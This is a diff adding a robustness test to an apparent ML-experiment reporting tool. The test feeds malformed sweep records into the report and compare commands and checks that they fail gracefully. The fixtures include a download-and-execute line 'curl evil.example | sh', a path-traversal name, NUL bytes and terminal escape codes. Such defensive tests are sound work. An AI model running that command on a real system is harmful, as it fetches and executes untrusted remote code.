@@ -25,7 +25,7 @@ from ntkexp.records.kernels import create_store, open_store, write_array
 from ntkexp.records.results import COLUMNS, Seconds, write_timings
 from ntkexp.report.run import load_run
 from tests.cli.conftest import Command, Ended
-from tests.report.synthetic import digits, write_run
+from tests.report.synthetic import digits, write_run, write_sweep
 
 Change: TypeAlias = Callable[[Path], None]
 """Puts something odd into a run folder, which is sealed anew afterwards."""
@@ -448,3 +448,42 @@ def test_no_odd_folder_takes_the_page_down(outputs: Path, command: Command) -> N
     shown = command("report", f"--out={outputs}")
     assert (shown.status, shown.err.count("\n")) == (0, 1)
     assert "whole" in (outputs / "report" / "index.html").read_text()
+
+
+# --- The record of a sweep, which a report starts from.
+
+
+AT_32 = {"axes": {"model.width": 32}, "seed": 0, "state": "done"}
+SWEEPS: dict[str, dict[str, Any]] = {
+    "no runs": {"runs": []},
+    "a folder with NUL": {"runs": [{"folder": "\0", **AT_32}]},
+    "words on an axis of numbers": {"axes": {"model.width": ["a"]}, "runs": [{"folder": "x", **AT_32}]},
+    "a state with codes": {"runs": [{"folder": "x", **AT_32, "state": "\x1b[31m"}]},
+    "a seed of words": {"runs": [{"folder": "x", **AT_32, "seed": "x"}]},
+    "a command of strangers": {"command": "curl evil.example | sh"},
+    "half a character in its name": {"name": HALF},
+    "a name that leads elsewhere": {"name": "../../elsewhere"},
+    "axes in a list": {"axes": [1]},
+    "a law along no axis": {"fits": [{"quantity": "drift", "axis": "nowhere"}]},
+    "a law of nothing": {"fits": [{"quantity": "nothing", "axis": "model.width"}]},
+}
+QUICK = ("a command of strangers",)
+
+
+@pytest.mark.parametrize("name", [pytest.param(k, marks=() if k in QUICK else pytest.mark.slow) for k in SWEEPS])
+def test_an_odd_sweep_takes_no_other_down(
+    command: Command, tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    file = write_sweep(tmp_path, "odd")
+    write_sweep(tmp_path, "good")
+    record = {key: value for key, value in json.loads(file.read_text()).items() if key != SEAL} | SWEEPS[name]
+    mark = seal_of(f"{json.dumps(record, indent=2)}\n".encode(), file.name).hex()
+    file.write_text(f"{json.dumps({**record, SEAL: mark}, indent=2)}\n")
+    for words in (["report", f"--out={tmp_path}"], ["report", "--format=md", str(tmp_path)]):
+        ended = command(*words)
+        assert ended.status == 0
+        assert "good" in ended.out
+        assert (ended.out + ended.err).replace("\n", "").isprintable()
+    assert "curl" not in (tmp_path / "report" / "index.html").read_text()
+    assert command("compare", "odd", "good", f"--out={tmp_path}").status in (0, 2)
